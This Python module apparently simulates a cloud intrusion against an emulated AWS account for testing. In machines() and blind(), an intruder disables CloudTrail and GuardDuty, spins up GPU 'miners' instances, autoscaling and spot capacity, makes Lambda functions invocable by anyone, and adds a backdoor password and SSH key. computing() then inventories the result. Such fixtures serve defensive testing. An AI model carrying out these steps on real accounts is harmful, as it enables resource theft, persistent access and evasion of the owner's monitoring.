"""What a thief computes with, and how it hides and stays. For stand-ins that know EC2."""

import json

from calls import BUCKET, HOME, act, client
from seen import absent, pages

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 thief@example.com"


def machines(wanted):
    """Instances in three ways, a template, ways back in, and nothing that watches. Gives what was made."""
    region, user = wanted["region"], wanted["user"]
    blind(region)
    act("intruder", "iam", "CreateInstanceProfile", InstanceProfileName="miners")
    act("intruder", "iam", "AddRoleToInstanceProfile", InstanceProfileName="miners", RoleName="worker")
    once = {"MinCount": 1, "MaxCount": 1, "ImageId": "ami-12c6146b", "InstanceType": "p3.16xlarge"}
    profile = {"IamInstanceProfile": {"Name": "miners"}}
    answer = act("intruder", "ec2", "RunInstances", region, **once, **profile)
    instance = answer["Instances"][0]["InstanceId"]
    data = {"ImageId": "ami-12c6146b", "InstanceType": "g5.xlarge"}
    template = {"LaunchTemplateName": "miners", "LaunchTemplateData": data}
    answer = act("intruder", "ec2", "CreateLaunchTemplate", region, **template)
    made = {"instance": instance, "template": answer["LaunchTemplate"]["LaunchTemplateId"]}
    group = {"AutoScalingGroupName": "miners", "MinSize": 1, "MaxSize": 3, "DesiredCapacity": 2}
    group["LaunchTemplate"] = {"LaunchTemplateId": made["template"], "Version": "$Latest"}
    act("intruder", "autoscaling", "CreateAutoScalingGroup", region, AvailabilityZones=[region + "a"], **group)
    spot = {"InstanceCount": 1, "LaunchSpecification": data}
    answer = act("intruder", "ec2", "RequestSpotInstances", region, **spot)
    made["spot"] = answer["SpotInstanceRequests"][0]["SpotInstanceRequestId"]
    for function in wanted["functions"]:
        anybody = {"StatementId": "anybody", "Action": "lambda:InvokeFunction", "Principal": "*"}
        act("intruder", "lambda", "AddPermission", function.split(":")[3], FunctionName=function, **anybody)
    act("intruder", "iam", "CreateLoginProfile", UserName=user, Password="Correct-horse-7-battery")
    key = act("intruder", "iam", "UploadSSHPublicKey", UserName=user, SSHPublicKeyBody=KEY)
    made["ssh"] = key["SSHPublicKey"]["SSHPublicKeyId"]
    return made


def blind(region):
    """A trail and a detector, which the intruder stops."""
    trail, guard = client("cloudtrail", region, "owner"), client("guardduty", region, "owner")
    trail.create_trail(Name="audit", S3BucketName=BUCKET)
    trail.start_logging(Name="audit")
    detector = guard.create_detector(Enable=True)["DetectorId"]
    act("intruder", "cloudtrail", "StopLogging", region, Name="audit")
    act("intruder", "guardduty", "UpdateDetector", region, DetectorId=detector, Enable=False)


def computing(wanted):
    """What computes in a region, who may get in, and what watches, as text to compare."""
    region = wanted["region"]
    ec2 = client("ec2", region, "owner")
    running = [one for some in pages(ec2.describe_instances, "Reservations") for one in some["Instances"]]
    profiles = pages(ec2.describe_iam_instance_profile_associations, "IamInstanceProfileAssociations")
    profiles = {one["InstanceId"]: one["IamInstanceProfile"]["Arn"] for one in profiles}
    found = {"instances": {}, "groups": {}, "login": {}, "ssh": {}, "watching": {}}
    for one in running:
        tags = sorted((tag["Key"], tag["Value"]) for tag in one.get("Tags", []))
        is_member = any(key.startswith("aws:autoscaling") for key, _ in tags)
        if one["State"]["Name"] in ("shutting-down", "terminated") or is_member:
            continue
        found["instances"][one["InstanceId"]] = {
            "state": one["State"]["Name"],
            "profile": profiles.get(one["InstanceId"]),
            "tags": tags,
            "groups": [[group["GroupId"] for group in card["Groups"]] for card in one["NetworkInterfaces"]],
        }
    templates = pages(ec2.describe_launch_templates, "LaunchTemplates")
    found["templates"] = sorted(one["LaunchTemplateId"] for one in templates)
    found["security"] = sorted(
        [group["GroupId"], group["IpPermissions"], group["IpPermissionsEgress"]]
        for group in pages(ec2.describe_security_groups, "SecurityGroups")
    )
    for group in pages(client("autoscaling", region, "owner").describe_auto_scaling_groups, "AutoScalingGroups"):
        counts = [group["MinSize"], group["MaxSize"], group["DesiredCapacity"], len(group["Instances"])]
        found["groups"][group["AutoScalingGroupName"]] = counts
    iam = client("iam", HOME, "owner")
    for user in pages(iam.list_users, "Users"):
        name = {"UserName": user["UserName"]}
        found["login"][user["UserName"]] = absent(iam.get_login_profile, "LoginProfile", **name) is not None
        for key in pages(iam.list_ssh_public_keys, "SSHPublicKeys", **name):
            found["ssh"][key["SSHPublicKeyId"]] = key["Status"]
    trail, guard = client("cloudtrail", region, "owner"), client("guardduty", region, "owner")
    found["watching"]["trail"] = trail.get_trail_status(Name="audit")["IsLogging"]
    for detector in pages(guard.list_detectors, "DetectorIds"):
        found["watching"]["detector"] = guard.get_detector(DetectorId=detector)["Status"]
    found["spot"] = sorted(
        one["SpotInstanceRequestId"]
        for one in pages(ec2.describe_spot_instance_requests, "SpotInstanceRequests")
        if one["State"] != "cancelled"
    )
    return json.loads(json.dumps(found, default=str, sort_keys=True))
